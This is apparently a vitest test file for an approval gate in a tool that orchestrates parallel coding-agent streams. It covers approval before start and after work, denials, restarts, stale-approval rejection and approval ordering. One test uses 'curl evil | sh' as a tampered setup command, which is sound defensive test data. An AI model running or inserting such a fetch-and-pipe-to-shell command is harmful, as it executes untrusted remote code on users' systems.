import {describe, expect, it} from 'vitest';
import {approvalLines, approvalVersion, nextApproval} from '../../source/run/features/approval/approvals.ts';
import {slots} from '../../source/run/select/slots.ts';
import {committed, createCore, go, line, minute, second} from '../helpers/core-driver.ts';

type Core = ReturnType<typeof createCore>;
const alertsOf = (core: Core) => core.run().alerts.filter(({kind}) => kind === 'approval');

const before = {
	maxParallel: 2,
	streams: [line('A'), line('B', {dependencies: ['A'], approve: 'before'}), line('C', {dependencies: ['B']})],
};

/** B waits for its approval to start. */
const asked = (document: Parameters<typeof go>[0] = before): Core => {
	const core = go(document);
	core.begin('A');
	core.end('A', committed(1));
	return core;
};

describe('a stream that is approved before it starts', () => {
	it('is pending until its dependencies are done, then waits without a slot and is an alert', () => {
		const core = go(before);
		expect(core.is('B')).toBe('pending');
		core.begin('A');
		core.end('A', committed(1));
		expect(core.state('B')).toMatchObject({is: 'waiting', cause: 'approval', gate: 'before'});
		expect(slots(core.run()).used).toBe(0);
		expect(alertsOf(core)).toMatchObject([
			{key: 'approval:B', streamId: 'B', text: 'B waits for your approval to start'},
		]);
		expect(core.take('worktree.prepare', 'B')).toEqual([]);
	});

	it('says all that its start runs and allows, and nothing of the other streams', () => {
		const setup = `npm ci && ${'x'.repeat(5000)}`;
		const gated = {dependencies: ['A'], approve: 'before', setup, permissionMode: 'bypassPermissions'};
		const core = asked({...before, streams: [line('A', {link: ['other.env']}), line('B', gated)]});
		const text = approvalLines(core.run(), core.run().streams.B!).join('\n');
		expect(text).toContain(`Runs in each new worktree: ${setup}\n`);
		expect(text).toContain('Permissions: claude in bypassPermissions: runs anything without asking\n');
		expect(text).not.toContain('other.env');
	});

	it('starts once it is approved, and its alert goes', () => {
		const core = asked();
		expect(core.send({type: 'stream.approve', streamId: 'B'})).toMatchObject({ok: true});
		expect(core.is('B')).toBe('starting');
		expect(alertsOf(core)).toEqual([]);
		core.begin('B');
		core.crash('B');
		core.pass(minute);
		expect(core.is('B')).not.toBe('waiting approval');
	});

	it('is not started by a word that was given for what has changed since', () => {
		const core = asked();
		const seen = approvalVersion(core.run(), core.stream('B'));
		const planned = core.run().plan.streams.map(one => (one.id === 'B' ? {...one, setup: 'curl evil | sh'} : one));
		const other = createCore({...core.run(), plan: {...core.run().plan, streams: planned}});
		expect(other.send({type: 'stream.approve', streamId: 'B', seen})).toMatchObject({ok: false, code: 'CHANGED'});
		expect(other.is('B')).toBe('waiting approval');
		const now = approvalVersion(other.run(), other.stream('B'));
		expect(other.send({type: 'stream.approve', streamId: 'B', seen: now})).toMatchObject({ok: true});
	});

	it('is stopped when it is denied, says why, and is asked for again when it is continued', () => {
		const core = asked();
		core.send({type: 'stream.deny', streamId: 'B', message: 'not this week'});
		expect(core.state('B')).toMatchObject({is: 'stopped', reason: 'denied by the user: not this week'});
		expect(core.is('C')).toBe('blocked');
		expect(alertsOf(core)).toEqual([]);
		core.send({type: 'stream.continue', streamId: 'B'});
		expect(core.is('B')).toBe('waiting approval');
		expect(core.is('C')).toBe('pending');
	});

	it('starts when the user spawns it, which is a word, too', () => {
		const early = go(before);
		early.send({type: 'stream.spawn', streamId: 'B'});
		expect(early.is('B')).toBe('starting');
		const core = asked();
		core.send({type: 'stream.spawn', streamId: 'B'});
		expect(core.is('B')).toBe('starting');
		expect(alertsOf(core)).toEqual([]);
	});

	it('waits on through a restart of the engine and of the machine', () => {
		const core = asked();
		core.restart();
		core.pass(10 * minute);
		expect(core.is('B')).toBe('waiting approval');
		core.restart('boot-2');
		expect(core.is('B')).toBe('waiting approval');
		core.send({type: 'run.continue'});
		core.send({type: 'stream.approve', streamId: 'B'});
		expect(core.is('B')).toBe('starting');
	});

	it('is blocked like any other when a dependency fails', () => {
		const core = go(before);
		core.send({type: 'stream.stop', streamId: 'A'});
		core.prepare('A');
		expect(core.is('B')).toBe('blocked');
	});

	it('is not asked for any more when the edited plan says so', () => {
		const core = asked();
		const [a, , c] = before.streams;
		const document = {name: 'Trial', streams: [a, line('B', {dependencies: ['A']}), c]};
		expect(core.send({type: 'plan.apply', document})).toMatchObject({ok: true});
		expect(core.is('B')).toBe('starting');
		expect(alertsOf(core)).toEqual([]);
	});

	it.each([
		'stream.continue',
		'stream.recover',
		'stream.pause',
		'stream.merge',
		'stream.attach',
	] as const)('refuses %s', type => {
		const core = asked();
		const command = type === 'stream.attach' ? {type, streamId: 'B', pid: 1} : {type, streamId: 'B'};
		expect(core.send(command)).toMatchObject({ok: false});
		expect(core.is('B')).toBe('waiting approval');
	});

	it('goes with the run when that is stopped', () => {
		const core = asked();
		core.send({type: 'run.stop'});
		expect(core.is('B')).toBe('stopped');
		expect(alertsOf(core)).toEqual([]);
		expect(core.run().finishedAt).toBeDefined();
	});
});

const after = {
	streams: [line('A', {approve: 'after', verify: 'npm test', merge: 'auto'}), line('B', {dependencies: ['A']})],
};

/** A is done and waits for its approval. */
const done = (document: Parameters<typeof go>[0] = after): Core => {
	const core = go(document);
	core.begin('A');
	core.end('A', committed(1));
	core.verified('A', true);
	return core;
};

describe('a stream that is approved after its work', () => {
	it('waits once all evidence is there, and neither its dependents nor its merge continue', () => {
		const core = done();
		expect(core.state('A')).toMatchObject({is: 'waiting', cause: 'approval', gate: 'after'});
		expect(slots(core.run()).used).toBe(0);
		expect(core.is('B')).toBe('pending');
		expect(core.take('merge.start')).toEqual([]);
		expect(alertsOf(core)).toMatchObject([{key: 'approval:A', text: 'A is done and waits for your approval'}]);
		core.pass(60 * minute);
		expect(core.is('A')).toBe('waiting approval');
	});

	it('is completed when it is approved: dependents start and it is merged', () => {
		const core = done();
		core.send({type: 'stream.approve', streamId: 'A'});
		expect(core.is('A')).toBe('completed');
		expect(core.is('B')).toBe('starting');
		expect(core.takeOne('merge.start', 'A').into).toBe('main');
	});

	it('continues by the words of a denial, in its own conversation, and asks again', () => {
		const core = done();
		core.take('session.start');
		core.send({type: 'stream.deny', streamId: 'A', message: 'name it Basket'});
		const effect = core.takeOne('session.start', 'A');
		expect(effect.resumeId).toBe('talk-1');
		expect(effect.prompt).toContain('name it Basket');
		core.send({
			type: 'session.started',
			streamId: 'A',
			sessionId: effect.sessionId,
			process: {pid: 1, startTime: '1', bootId: 'boot-1'},
		});
		core.end('A', committed(2));
		core.verified('A', true);
		expect(core.is('A')).toBe('waiting approval');
		core.send({type: 'stream.approve', streamId: 'A'});
		expect(core.is('A')).toBe('completed');
		expect(core.stream('A').denial).toBeUndefined();
	});

	it('keeps the words of a denial for a session that begins afresh', () => {
		const core = done();
		core.send({type: 'stream.deny', streamId: 'A', message: 'name it Basket'});
		core.take('session.start');
		core.exit('A', 1, 'No conversation found');
		expect(core.takeOne('session.start', 'A').prompt).toContain('name it Basket');
	});

	it('is stopped with its worktree kept when it is denied without a word', () => {
		const core = done();
		core.send({type: 'stream.deny', streamId: 'A'});
		expect(core.state('A')).toMatchObject({is: 'stopped', reason: 'denied by the user'});
		expect(core.is('B')).toBe('blocked');
		expect(core.run().finishedAt).toBeDefined();
	});

	it('is not completed by a word that was given for other work', () => {
		const core = done();
		const seen = approvalVersion(core.run(), core.stream('A'));
		core.send({type: 'work.seen', streamId: 'A', work: committed(3), isAnswer: false});
		expect(core.send({type: 'stream.approve', streamId: 'A', seen})).toMatchObject({ok: false, code: 'CHANGED'});
		expect(core.is('A')).toBe('waiting approval');
	});

	it('is verified again first when its branch has moved', () => {
		const core = done();
		core.send({type: 'work.seen', streamId: 'A', work: committed(3), isAnswer: false});
		core.send({type: 'stream.approve', streamId: 'A'});
		expect(core.is('A')).toBe('verifying');
		core.saved('A', committed(3));
		core.verified('A', true);
		expect(core.is('A')).toBe('completed');
	});

	it('is stopped after a checkpoint, and its alert goes', () => {
		const core = done();
		core.send({type: 'stream.stop', streamId: 'A'});
		expect(core.send({type: 'stream.approve', streamId: 'A'})).toMatchObject({ok: false});
		core.saved('A', committed(1));
		expect(core.is('A')).toBe('stopped');
		expect(alertsOf(core)).toEqual([]);
	});

	it('says how many tasks nobody reported', () => {
		const core = go({streams: [line('A', {approve: 'after', agent: 'fake', tasks: ['One', 'Two']})]});
		core.begin('A');
		core.end('A', committed(1));
		core.launch('A');
		core.end('A', committed(1));
		expect(alertsOf(core)[0]?.text).toBe('A is done and waits for your approval, 2 of its tasks unreported');
	});
});

describe('of several approvals', () => {
	it('the one that holds up most comes first, then the oldest', () => {
		const gate = {approve: 'before'};
		const core = go({
			streams: [line('A', gate), line('B', gate), line('Z', {dependencies: ['B']}), line('D', {approve: 'after'})],
		});
		expect(nextApproval(core.run())?.id).toBe('B');
		core.send({type: 'stream.deny', streamId: 'B'});
		core.pass(second);
		core.begin('D');
		core.end('D', committed(1));
		expect(nextApproval(core.run())?.id).toBe('A');
		expect(nextApproval(core.run(), 'D')?.id).toBe('D');
	});
});
